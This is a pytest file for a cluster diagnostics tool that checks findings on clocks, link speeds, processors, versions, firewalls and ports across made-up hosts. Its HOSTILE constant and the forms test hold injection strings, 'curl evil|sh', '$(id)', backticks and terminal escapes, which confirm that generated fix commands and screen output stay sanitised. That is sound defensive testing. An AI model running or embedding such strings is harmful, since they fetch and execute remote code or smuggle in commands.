"""Checks are functions of plain data: what each finds of hosts that are made up."""

from __future__ import annotations

import io
import shlex
from dataclasses import replace

import pytest
from rich.console import Console

from shoal.contracts.versions import versions
from shoal.core.interfaces import Address
from shoal_tools.doctor import checks_host, checks_network, forms
from shoal_tools.doctor.examine import tournament
from shoal_tools.doctor.facts import Chain, Firewall, Host, Interfaces, Limits
from shoal_tools.doctor.finding import CHECKS, Finding
from shoal_tools.doctor.judge import judged
from shoal_tools.doctor.ports import Taken
from shoal_tools.doctor.show import show
from shoal_tools.doctor.survey import Attempt, Path, Paths, Reached, Survey
from shoal_tools.doctor.wire import ANOTHER, NO_ROUTE, UNPROVED

NUM_HOSTS = 4


def host(number: int) -> Host:
    """A sound host."""
    address = f"10.0.0.{number + 1}"
    return Host(
        id=f"id{number}",
        rank=number,
        name=f"h{number}",
        machine=f"m{number}",
        addresses=(Address("lo", "127.0.0.1"), Address("eth0", address)),
        announced=address,
        interfaces=Interfaces(
            names=("lo", "eth0"), asked=("eth0",), mtus={"eth0": 1500}, shaped=()
        ),
        names={f"h{number}": (address,)},
        port=4000,
        versions=versions(),
        limits=Limits(20000, 20000, 1 << 30, 1 << 30),
        firewall=Firewall(("iptables",)),
    )


def survey(hosts: list[Host], **changed: object) -> Survey:
    """Hosts that reach each other, each link at 1 Gbit/s."""
    pairs = [(a, b) for a in hosts for b in hosts if a is not b]
    reached = {
        each.id: Reached(
            tuple(Attempt(b.id, b.announced, "", a.announced, 4000) for a, b in pairs if a is each)
        )
        for each in hosts
    }
    paths = {
        each.id: Paths(
            tuple(Path(b.id, b.announced, 1e-4, 0.0, None, None) for a, b in pairs if a is each)
        )
        for each in hosts
    }
    rates = {(a.id, b.id): 1e9 / 8 for a, b in pairs}
    made = Survey(hosts[0].id, tuple(hosts), reached, paths, rates, {}, len(hosts), 1e8 / 8)
    return replace(made, **changed)


SOUND = [host(number) for number in range(NUM_HOSTS)]


def found(made: Survey) -> Finding:
    """The only finding."""
    (finding,) = judged(made)
    return finding


def test_sound_hosts_have_nothing() -> None:
    assert judged(survey(SOUND)) == []


def test_clocks_that_are_off_are_named() -> None:
    made = survey(SOUND)
    ahead = tuple(
        replace(path, ahead_s=-90.0 if path.host == "id2" else 0.2)
        for path in made.paths["id0"].paths
    )
    finding = found(replace(made, paths=made.paths | {"id0": Paths(ahead)}))
    assert (finding.check, finding.where) == ("clocks", "h2")
    assert "90.0 s behind" in finding.got and "ntp" in finding.mend


def test_a_slow_host_is_told_from_a_slow_pair() -> None:
    rates = survey(SOUND).rates
    slow_host = {way: 1e7 if "id2" in way else rate for way, rate in rates.items()}
    finding = found(survey(SOUND, rates=slow_host))
    assert finding.on == "h2" and finding.got.count("80 Mbit/s") == 6
    slow_way = rates | {("id1", "id3"): 1e7}
    finding = found(survey(SOUND, rates=slow_way))
    assert finding.where == "h1 → h3" and finding.on == "h1"


def test_links_are_judged_by_what_is_expected_where_all_are_alike() -> None:
    rates = dict.fromkeys(survey(SOUND).rates, 9.5e7 / 8)
    assert judged(survey(SOUND, rates=rates)) == []
    assert judged(survey(SOUND, rates=rates, expected_bytes_per_s=1e9 / 8))
    fast = {way: rate * 100 for way, rate in rates.items()} | {("id0", "id1"): 3e9 / 8}
    assert judged(survey(SOUND, rates=fast)) == [], "a processor may be what limits it"


def test_processors_of_three_kinds_are_named_once_each() -> None:
    own = versions()
    kinds = [replace(own, processor=f"P{n}, AVX2", flags=(f"f{n // 2}",)) for n in range(NUM_HOSTS)]
    hosts = [replace(each, versions=kind) for each, kind in zip(SOUND, kinds, strict=True)]
    findings = judged(survey(hosts))
    assert [(each.check, each.where) for each in findings] == [
        ("processor", "h2"),
        ("processor", "h3"),
    ]
    assert "more here: f1; lacking here: f0" in findings[0].got


def test_a_patch_of_python_is_no_other_version() -> None:
    other = replace(versions(), python="3.11.999")
    own = replace(versions(), python="3.11.1")
    hosts = [replace(each, versions=own) for each in SOUND[1:]]
    assert judged(survey([replace(SOUND[0], versions=other), *hosts])) == []
    other = replace(own, python="3.13.1")
    finding = found(survey([replace(SOUND[0], versions=other), *hosts]))
    assert (finding.where, finding.mend) == ("h0", "uv venv --python 3.11")


def test_commands_fit_the_firewall_that_is_there() -> None:
    for tools, begins in (
        (("ufw", "nft"), "ufw insert 1 allow from 10.0.0.1"),
        (("firewall-cmd",), "firewall-cmd --zone=trusted --add-source=10.0.0.1"),
        (("iptables",), "iptables -I INPUT -s 10.0.0.1 -j ACCEPT"),
    ):
        deaf = replace(SOUND[1], firewall=Firewall(tools))
        assert checks_network._allow(deaf, [SOUND[0]], "input") == begins


def test_what_an_alone_host_lacks_is_found_and_its_name_is_its_own_matter() -> None:
    unasked = replace(SOUND[0].interfaces, asked=())
    alone = replace(SOUND[0], names={"h0": ("127.0.1.1",)}, interfaces=unasked)
    assert judged(survey([alone])) == []
    poor = replace(alone, limits=Limits(64, 64, 0, 0), taken=(Taken(29500, 7, "other"),))
    assert [each.check for each in judged(survey([poor]))] == ["ports", "files", "memory"]
    assert judged(survey([poor]), ignored=("ports", "files", "memory")) == []


def test_a_host_that_goes_silent_is_named() -> None:
    finding = found(survey(SOUND, lost={"id3": "paths"}))
    assert (finding.check, finding.where) == ("start", "h3")


def test_every_host_meets_every_other_once_in_a_tournament() -> None:
    for count in range(2, 9):
        hosts = [host(number) for number in range(count)]
        rounds = list(tournament(hosts))
        met = [frozenset(each.id for each in pair) for pairs in rounds for pair in pairs]
        assert len(met) == len(set(met)) == count * (count - 1) // 2
        for pairs in rounds:
            busy = [each.id for pair in pairs for each in pair]
            assert len(busy) == len(set(busy))


HOSTILE = "x\x1b[2J; curl evil|sh #`id`$(id)'\"\n\u202e[bold]"


def hostile(number: int) -> Host:
    """A host that has nothing but a stranger's text to say."""
    ill = host(number)
    return replace(
        ill,
        name=HOSTILE,
        addresses=(Address(HOSTILE, f"fe80::{number}%{HOSTILE}"),),
        announced=HOSTILE,
        interfaces=Interfaces((HOSTILE,), (HOSTILE, "eth9"), {HOSTILE: 7}, (HOSTILE,)),
        names={HOSTILE: ("127.0.0.1",), f"{HOSTILE}2": ()},
        versions=replace(ill.versions, torch=HOSTILE, shoal=HOSTILE, python=HOSTILE),
        firewall=Firewall(
            ("nft",), tuple(Chain(HOSTILE, HOSTILE, HOSTILE, hook) for hook in ("input", "output"))
        ),
        limits=Limits(1, 1, 1, 1),
        taken=(Taken(7, 7, HOSTILE),),
    )


@pytest.mark.parametrize("tool", ["nft", "iptables", "ufw", "firewall-cmd"])
@pytest.mark.parametrize("outcome", ["refused", NO_ROUTE, ANOTHER, UNPROVED, ""])
def test_a_strangers_text_is_in_no_command_and_moves_no_cursor(tool: str, outcome: str) -> None:
    hosts = [host(0), *map(hostile, range(1, 5))]
    hosts = [replace(h, firewall=replace(h.firewall, tools=(tool,))) for h in hosts]
    made = survey(hosts)
    reached = {
        id: replace(
            each,
            attempts=tuple(replace(a, outcome=outcome, address=HOSTILE) for a in each.attempts),
            names={HOSTILE: ("127.0.0.1",)},
        )
        for id, each in made.reached.items()
    }
    paths = (
        {}
        if outcome == "" and tool == "nft"
        else {
            id: Paths(tuple(replace(p, passes=1300, passes_back=1300) for p in each.paths))
            for id, each in made.paths.items()
        }
    )
    made = replace(made, reached=reached, paths=paths, rates=dict.fromkeys(made.rates, 1.0))
    findings = judged(made)
    assert len(findings) > 10
    for finding in findings:
        for part in ("evil", "\x1b", "`", "\n", "$(", "\u202e", "[bold]"):
            assert part not in finding.mend, finding
        assert shlex.split(finding.mend), "the quotes are whole"
    page = io.StringIO()
    show(Console(file=page, width=300), made, findings, 3.0)
    printed = page.getvalue()
    assert all(each.isprintable() or each == "\n" for each in printed)
    assert "x\\x1b[2J; curl evil" in printed and "[bold]" in printed
    assert printed.count("\n") < 60 + 5 * len(findings)


def test_words_of_commands_keep_to_their_forms() -> None:
    for form, good, bad in (
        (forms.address, ["10.0.0.1", "fd00::1", "fe80::1%eth0"], ["", "1.2.3", "fe80::1%;id", "h"]),
        (forms.interface, ["eth0", "enp3s0f0np0", "eth0.7", "br-0a1b2c3d4e5f"], ["", "-x", "a b"]),
        (forms.host, ["h0", "node-1.example.org", "10.0.0.1"], ["", "-h", "a;b", "a\nb"]),
        (forms.version, ["2.13.0+cpu", "3.11"], ["", "1 2", "1;2", "$(id)"]),
    ):
        assert [form(each) for each in good] == good
        assert all(form(each).isupper() for each in bad)


def test_what_is_shown_fits_80_columns_and_commands_stay_whole() -> None:
    page = io.StringIO()
    mend = "a command " + "that is long " * 12 + "and has one line"
    finding = Finding("mtu", "full packets are lost", "h0 → h1", "1300 bytes pass", mend, "h1")
    show(Console(file=page, width=80), survey(SOUND), [finding], 3.0)
    lines = page.getvalue().splitlines()
    assert f"  mend it, on h1: {mend}" in lines
    assert max(len(line) for line in lines if mend not in line) <= 80
    assert lines[-1] == f"1 finding: {len(CHECKS)} checks on 4 hosts in 3.0 s"
    page.truncate(0)
    show(Console(file=page, width=80), survey(SOUND), [], 3.0)
    assert page.getvalue().splitlines()[-1].startswith("sound: ")


def test_every_check_has_a_name_that_can_be_left_out() -> None:
    names = {"start"} | {
        each for module in (checks_host, checks_network) for each in CHECKS if hasattr(module, each)
    }
    assert names == set(CHECKS)
